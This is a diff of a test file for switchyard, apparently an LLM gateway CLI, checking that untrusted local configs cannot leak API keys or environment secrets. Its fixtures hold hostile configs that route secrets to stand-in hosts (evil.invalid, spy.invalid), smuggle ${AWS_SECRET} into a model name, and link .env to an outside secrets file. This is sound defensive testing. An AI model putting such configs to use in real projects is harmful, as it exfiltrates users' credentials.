@@ -200,28 +200,41 @@ test('the "no API key" advice for a withheld key is to trust the file if it is y
   assert.doesNotMatch(message, /auth add/);
 });
 
-test('a gateway started on an untrusted ./switchyard.yaml reads the variable after `config trust` and a SIGHUP, without a restart', async (t) => {
+test('switchyard gateway refuses an untrusted ./switchyard.yaml; trusted, it starts, and a SIGHUP after an edit keeps reading the environment', async (t) => {
   const ws = repo(`${EVIL}gateway: { require_keys: false }\n`);
   t.after(() => ws.cleanup());
   const cwd = join(ws.dir, 'repo');
   const env = { PATH: process.env['PATH'] ?? '', HOME: ws.dir, OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home };
+  const refused = await runCli(['gateway', '--listen', '127.0.0.1:0'], { cwd, env });
+  assert.equal(refused.code, 2);
+  assert.match(refused.stderr, /was found in the current directory and is not trusted: a gateway serves whoever reaches it with your keys/);
+  assert.equal((await runCli(['config', 'trust'], { cwd, env })).code, 0);
   const gw = await spawnGateway(t, [], env, cwd);
   t.after(async () => {
     gw.child.kill('SIGTERM');
     await gw.exited;
   });
-  const url = gw.url;
   const failure = async (): Promise<string> => {
-    const res = await fetch(`${url}/v1/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ model: 'main', messages: [{ role: 'user', content: 'hi' }] }) });
+    const res = await fetch(`${gw.url}/v1/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ model: 'main', messages: [{ role: 'user', content: 'hi' }] }) });
     return ((await res.json()) as { error: { message: string } }).error.message;
   };
-  assert.match(await failure(), /env OPENAI_API_KEY \(set, but not read by a \.\/switchyard\.yaml/);
-  assert.equal((await runCli(['config', 'trust'], { cwd, env })).code, 0);
-  gw.child.kill('SIGHUP');
-  // Sent now: the call fails on the name lookup of the host the file names (nothing leaves this machine).
-  for (let i = 0; i < 200 && !/could not reach openai at https:\/\/evil\.invalid/.test(await failure()); i++) await new Promise((r) => setTimeout(r, 50));
+  // Sent: the call fails on the name lookup of the host the file names (nothing leaves this machine).
   assert.match(await failure(), /could not reach openai at https:\/\/evil\.invalid\/v1/);
+  gw.child.kill('SIGHUP');
+  await new Promise((r) => setTimeout(r, 300));
+  assert.match(await failure(), /could not reach openai at https:\/\/evil\.invalid\/v1/, 'still read after a reload');
   assertNoSecrets([SHELL_KEY], gw.stderr());
+});
+
+test('to a server on this machine, a variable goes as a key only: inside a model name, a header or a URL it is data that server may pass on', (t) => {
+  // `switchyard gateway` on loopback routes a model `other/…` to another provider: a model name is not safe there.
+  const ws = repo('providers:\n  loop: { type: openai, base_url: http://127.0.0.1:9/v1, api_key: "${LOOP_KEY}" }\n  evil2: { type: openai, base_url: https://evil.invalid/v1, api_key: x }\nmain: { provider: loop, model: "evil2/${AWS_SECRET}" }\n');
+  t.after(() => ws.cleanup());
+  assert.throws(() => loadConfig({ cwd: join(ws.dir, 'repo'), env: { LOOP_KEY: 'sk-local-server-key-0001', AWS_SECRET: SECRET, SWITCHYARD_HOME: ws.home } }), /main\.model: AWS_SECRET is set in the environment, but .* would send it to http:\/\/127\.0\.0\.1:9; it is not read/);
+  const keyOnly = repo('providers:\n  loop: { type: openai, base_url: http://127.0.0.1:9/v1, api_key: "${LOOP_KEY}" }\nmain: { provider: loop, model: m }\n');
+  t.after(() => keyOnly.cleanup());
+  const loaded = loadConfig({ cwd: join(keyOnly.dir, 'repo'), env: { LOOP_KEY: 'sk-local-server-key-0001', SWITCHYARD_HOME: keyOnly.home } });
+  assert.equal(loaded.config.providers['loop']?.api_key, 'sk-local-server-key-0001', 'a key for a server on this machine is read');
 });
 
 test('gateway.state URLs that parsers read differently are refused: the host checked is the host ioredis connects to', () => {
@@ -232,22 +245,16 @@ test('gateway.state URLs that parsers read differently are refused: the host che
 });
 
 test('a .env beside an untrusted local config that is a link (to /proc/self/environ, a profile, another project) is not read', (t) => {
-  const ws = repo('providers:\n  openai: { type: openai, base_url: http://127.0.0.1:9/v1, api_key: x }\nmain: { provider: openai, model: "m${SHELL_LIKE}" }\n');
+  const ws = repo('providers:\n  openai: { type: openai, base_url: http://127.0.0.1:9/v1, api_key: "${SHELL_LIKE}" }\nmain: { provider: openai, model: m }\n');
   t.after(() => ws.cleanup());
   const outside = ws.write('elsewhere/secrets.env', 'SHELL_LIKE=stolen-value-0001\n');
   symlinkSync(outside, join(ws.dir, 'repo', '.env'));
   const cwd = join(ws.dir, 'repo');
-  assert.throws(() => loadConfig({ cwd, env: { SWITCHYARD_HOME: ws.home } }), /SHELL_LIKE\} is not set/);
-  const warnings = (() => {
-    try {
-      return loadConfig({ cwd, env: { SWITCHYARD_HOME: ws.home, SHELL_LIKE: '' } }).warnings.join('\n');
-    } catch (err) {
-      return String(err);
-    }
-  })();
-  assert.match(warnings, /\.env is a link or not a regular file, and the \.\/switchyard\.yaml beside it is not trusted, so it is not read/);
+  const untrusted = loadConfig({ cwd, env: { SWITCHYARD_HOME: ws.home } });
+  assert.equal(untrusted.config.providers['openai']?.api_key, undefined, 'the linked file is not read');
+  assert.match(untrusted.warnings.join('\n'), /\.env is a link or not a regular file, and the \.\/switchyard\.yaml beside it is not trusted, so it is not read/);
   trustConfig(join(cwd, 'switchyard.yaml'), { SWITCHYARD_HOME: ws.home });
-  assert.equal(loadConfig({ cwd, env: { SWITCHYARD_HOME: ws.home } }).config.main?.model, 'mstolen-value-0001', 'trusted, its .env link is followed');
+  assert.equal(loadConfig({ cwd, env: { SWITCHYARD_HOME: ws.home } }).config.providers['openai']?.api_key, 'stolen-value-0001', 'trusted, its .env link is followed');
 });
 
 test('however long a chain of .env substitutions, what it moves is checked (no round limit to outrun)', (t) => {
@@ -273,12 +280,15 @@ test('a stored key for a plain-http host is held back when the local config (or 
   const env = { SWITCHYARD_HOME: ws.home, HOME: ws.dir };
   const added = await runCli(['-c', own, 'auth', 'add', 'ollama'], { env, input: 'sk-stored-local-0000a1b2\n' });
   assert.equal(added.code, 0, added.stderr);
-  ws.write('repo/switchyard.yaml', 'providers:\n  ollama: { type: openai, base_url: http://127.0.0.1:11434/v1, proxy: http://spy.invalid:3128 }\nmain: { provider: ollama, model: m }\n');
-  const r = await runCli(['chat', '-m', 'hi'], { cwd: join(ws.dir, 'repo'), env });
-  assert.equal(r.code, 1);
-  assert.match(r.stderr, /sends it over plain http through the proxy http:\/\/spy\.invalid:3128 \(providers\.ollama\.proxy\), which would see it in the clear/);
-  assert.match(r.stderr, /`proxy: none` under providers\.ollama/);
-  assert.doesNotMatch(r.stderr, /could not reach/, 'nothing was sent');
+  // However the scheme is written: `HTTP://`, or with a leading space, is the same plain http.
+  for (const base of ['http://127.0.0.1:11434/v1', 'HTTP://127.0.0.1:11434/v1', ' http://127.0.0.1:11434/v1']) {
+    ws.write('repo/switchyard.yaml', `providers:\n  ollama: { type: openai, base_url: "${base}", proxy: http://spy.invalid:3128 }\nmain: { provider: ollama, model: m }\n`);
+    const r = await runCli(['chat', '-m', 'hi'], { cwd: join(ws.dir, 'repo'), env });
+    assert.equal(r.code, 1, base);
+    assert.match(r.stderr, /sends it over plain http through the proxy http:\/\/spy\.invalid:3128 \(providers\.ollama\.proxy\), which would see it in the clear/, base);
+    assert.match(r.stderr, /`proxy: none` under providers\.ollama/);
+    assert.doesNotMatch(r.stderr, /could not reach/, 'nothing was sent');
+  }
   // The user's own config, named, is not second-guessed.
   assert.equal((await runCli(['-c', own, 'auth', 'list', 'ollama'], { env })).stdout.includes('held back'), false);
   assertNoSecrets(['sk-stored-local-0000a1b2']);
